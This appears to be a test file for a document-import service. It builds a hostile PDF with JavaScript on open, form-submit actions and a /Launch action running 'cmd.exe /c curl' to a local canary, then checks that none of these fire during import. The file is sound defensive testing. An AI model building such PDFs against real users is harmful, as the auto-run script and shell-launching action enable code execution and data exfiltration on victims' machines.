import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { importFile } from '../../src/service/document-import/index';
import { MARKER, markerSet, settle, startCanary, type Canary } from './canary';
import { serializePdf } from '../fixtures/import/make-pdf';

const escape = (text: string): string => text.replace(/[\\()]/g, (c) => `\\${c}`);

/**
 * A PDF in the style of test/fixtures/import/make-pdf.ts (Helvetica text, correct xref table), whose
 * catalog runs JavaScript on open (/OpenAction, a document-level /Names JavaScript tree, /AA
 * additional actions) and whose page has a link annotation to the canary, a /Launch action and a
 * form field with a calculate script and a submit action.
 */
function hostilePdf(lines: string[], url: string): Uint8Array {
  const js = `${MARKER}=1;this.${MARKER}=1;app.launchURL('${url}/pdf/launch',true);this.submitForm('${url}/pdf/submit');this.getURL('${url}/pdf/geturl');app.alert('HACKED')`;
  const objects: string[] = [];
  const add = (body: string): number => objects.push(body);
  const catalog = add('');
  const pages = add('');
  const font = add('<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>');
  const openAction = add(
    `<< /Type /Action /S /JavaScript /JS (${escape(js)}) /Next << /S /URI /URI (${url}/pdf/next) >> >>`,
  );
  const named = add(`<< /S /JavaScript /JS (${escape(js.replace(/launch/g, 'named'))}) >>`);
  const names = add(`<< /JavaScript << /Names [(boot) ${named} 0 R] >> >>`);
  const stream = lines.map((l, i) => `BT /F1 12 Tf 72 ${720 - i * 16} Td (${escape(l)}) Tj ET`).join('\n');
  const content = add(`<< /Length ${Buffer.byteLength(stream, 'latin1')} >>\nstream\n${stream}\nendstream`);
  const link = add(`<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A << /S /URI /URI (${url}/pdf/link) >> >>`);
  const launch = add(
    `<< /Type /Annot /Subtype /Link /Rect [72 600 300 620] /A << /S /Launch /F (calc.exe) /Win << /F (cmd.exe) /P (/c curl ${url}/pdf/cmd) >> >> >>`,
  );
  const field = add(
    `<< /Type /Annot /Subtype /Widget /FT /Tx /T (total) /Rect [72 500 300 520] /V (0) /AA << /C << /S /JavaScript /JS (${escape(js.replace(/launch/g, 'calc'))}) >> /K << /S /JavaScript /JS (${escape(js)}) >> >> >>`,
  );
  const submit = add(
    `<< /Type /Annot /Subtype /Widget /FT /Btn /T (send) /Rect [72 400 300 420] /A << /S /SubmitForm /F (${url}/pdf/form) >> >>`,
  );
  const page = add(
    `<< /Type /Page /Parent ${pages} 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 ${font} 0 R >> >> /Contents ${content} 0 R /Annots [${link} 0 R ${launch} 0 R ${field} 0 R ${submit} 0 R] /AA << /O << /S /JavaScript /JS (${escape(js.replace(/launch/g, 'page-open'))}) >> >> >>`,
  );
  objects[catalog - 1] =
    `<< /Type /Catalog /Pages ${pages} 0 R /OpenAction ${openAction} 0 R /Names ${names} 0 R /AA << /WC << /S /JavaScript /JS (${escape(js)}) >> >> /AcroForm << /Fields [${field} 0 R ${submit} 0 R] /CO [${field} 0 R] >> >>`;
  objects[pages - 1] = `<< /Type /Pages /Kids [${page} 0 R] /Count 1 >>`;
  return serializePdf(objects, `/Root ${catalog} 0 R`);
}

let canary: Canary;
beforeAll(async () => {
  canary = await startCanary();
});
afterAll(() => canary.close());

describe('hostile PDF: JavaScript and actions', () => {
  it('imports the text; no script, launch, link or form submission runs or calls out', async () => {
    const lines = [
      'Officials confirmed the plant will close in March.',
      'Union leaders said they had not been consulted.',
    ];
    const bytes = hostilePdf(lines, canary.url);
    expect(Buffer.from(bytes).toString('latin1')).toContain('/S /JavaScript /JS (');
    const started = Date.now();
    const result = await importFile('hostile.pdf', bytes);
    const elapsed = Date.now() - started;
    await settle();
    if (!result.ok) throw new Error(result.error.message);
    for (const line of lines) expect(result.value.text).toContain(line);
    for (const leak of ['launchURL', 'submitForm', 'HACKED', MARKER, canary.url, 'cmd.exe'])
      expect(result.value.text).not.toContain(leak);
    expect(canary.hits).toEqual([]);
    expect(markerSet()).toBe(false);
    expect(elapsed).toBeLessThan(10_000);
  }, 20_000);
});
